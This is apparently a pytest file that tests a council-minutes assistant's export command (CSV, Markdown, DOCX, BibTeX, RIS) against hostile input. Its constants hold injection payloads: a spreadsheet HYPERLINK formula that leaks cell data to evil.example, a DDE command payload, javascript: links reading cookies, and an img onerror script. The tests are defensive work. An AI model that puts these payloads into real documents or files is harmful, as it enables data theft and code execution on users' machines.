"""Hostile minutes and questions through the real `minutes export`: no formula, no live link but the meeting's
public page, no markup and no server path in any format (issue 16, items 1 and 8; issue 14, item 6)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from assistant.cli import main

MEETING_ID = "7d1c2b7e-0000-4000-8000-00000000abcd"
PUBLIC_PAGE = f"https://dagsordener.testby.dk/vis?id={MEETING_ID}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klik")'
JS_LINK = "[klik her](javascript:alert(document.cookie))"
DECISION = (
    f"{FORMULA} Udvalget besluttede at etablere tre vejbump på Skolevej ved skolen. "
    f"Se {JS_LINK} og <img src=x onerror=alert(1)> samt https://evil.example/side og www.evil.example. "
    "-2+3 vejbump blev drøftet @borgerne."
)
QUESTION = "=cmd|' /C calc'!A0 Hvad besluttede udvalget om vejbump på Skolevej? [x](javascript:alert(2)) <b>"


def _meeting() -> dict:
    def point(n: str, title: str, case: str, html: str) -> dict:
        return {"Punktnummer": n, "Navn": title, "SagsNummer": case, "Id": f"p-{n}",
                "Felter": [{"Navn": "", "Html": html, "Tekst": None,
                            "Link": "https://dagsordener.testby.dk/Vis/Pdf/bilag/0f9e"}], "Bilag": []}

    return {
        "Id": MEETING_ID,
        "Udvalg": {"Id": "u-1", "Navn": "Teknikudvalget", "Historisk": False},
        "Moede": {"Id": "00000000-0000-0000-0000-000000000000", "Dato": "2025-05-05T16:00:00+02:00",
                  "Sted": "Rådhuset", "Navn": "Referat", "Moededeltagere": []},
        "Dagsordenpunkter": [
            point("1", "Godkendelse af dagsorden", "25-000001", "<h3>Beslutning</h3><p>Godkendt.</p>"),
            point("2", "Vejbump på Skolevej", "25-000777",
                  "<h3>Sagsfremstilling</h3><p>Forvaltningen foreslår vejbump på Skolevej.</p>"
                  f"<h3>Beslutning</h3><p>{DECISION.replace('<', '&lt;').replace('>', '&gt;')}</p>"),
        ],
    }


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory):
    from assistant.ingest import ingest
    from assistant.settings import Settings

    root = tmp_path_factory.mktemp("hostile-export")
    corpus = root / "server-secret-folder" / "corpus" / "testby"
    corpus.mkdir(parents=True)
    (corpus / "minutes.toml").write_text('municipality = "Testby Kommune"\n', encoding="utf-8")
    (corpus / "teknik-2025-05-05.json").write_text(json.dumps(_meeting(), ensure_ascii=False), encoding="utf-8")
    report = ingest([corpus], Settings(index=root / "index"), show_progress=False)
    assert report.files_added == 1, report.problems
    return root


def _export(root: Path, fmt: str) -> tuple[Path, str]:
    out = root / f"svar.{fmt}"
    res = CliRunner().invoke(main, ["export", QUESTION, "--format", fmt, "-o", str(out), "--index",
                                    str(root / "index")])
    assert res.exit_code == 0, res.output
    if fmt == "docx":
        with zipfile.ZipFile(out) as z:
            text = "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels")))
    else:
        text = out.read_text(encoding="utf-8-sig")
    return out, text


def test_csv_cells_never_start_a_formula(hostile_index):
    _, text = _export(hostile_index, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    for row in rows:
        for name, cell in row.items():
            stripped = cell.lstrip(" \t\r\n")
            assert cell[:1] not in ("\t", "\r") and not stripped.startswith(("=", "+", "-", "@")), (name, cell)
    assert rows[0]["question"] == "'" + QUESTION  # OWASP: a single quote in front, the text itself kept
    quoted = [r["quote"] for r in rows if "HYPERLINK" in r["quote"]]
    assert quoted and all(q.startswith("'=HYPERLINK") for q in quoted), [r["quote"] for r in rows]
    assert rows[0]["url"] == PUBLIC_PAGE and rows[0]["source_file"] == "teknik-2025-05-05.json"


def test_markdown_has_no_live_link_but_the_meetings_page(hostile_index):
    from markdown_it import MarkdownIt

    _, text = _export(hostile_index, "md")
    html = MarkdownIt("commonmark").enable("table").render(text)
    hrefs = re.findall(r'<a href="([^"]*)"', html)
    assert hrefs and set(hrefs) == {PUBLIC_PAGE}, hrefs
    assert "<img" not in html and "<b>" not in html and "<script" not in html
    assert "javascript:alert(2)" in html and "javascript:alert(document.cookie)" in html  # shown as text
    assert "[1]" in html  # the citation marker itself is kept
    # GFM turns bare addresses into links; they are broken by an escape that the rendered text does not show
    assert "https://evil.example" not in text and "www.evil.example" not in text


def test_docx_carries_no_hyperlink(hostile_index):
    from docx import Document

    out, xml = _export(hostile_index, "docx")
    assert "<w:hyperlink" not in xml and "relationships/hyperlink" not in xml  # no link element, no link target
    assert "<w:fldSimple" not in xml and "<w:instrText" not in xml  # no field (a HYPERLINK field is one)
    paras = [p.text for p in Document(str(out)).paragraphs]
    assert QUESTION in paras  # the question as text, the public page as plain text
    assert any(p.endswith(PUBLIC_PAGE) for p in paras)


@pytest.mark.parametrize("fmt", ["md", "csv", "bib", "ris", "docx"])
def test_no_format_carries_a_server_path(hostile_index, fmt):
    _, text = _export(hostile_index, fmt)
    assert "server-secret-folder" not in text and str(hostile_index) not in text
    assert "teknik-2025-05-05.json" in text and PUBLIC_PAGE in text
    assert "Testby Kommune" in text and "Teknikudvalget" in text and "25-000777" in text
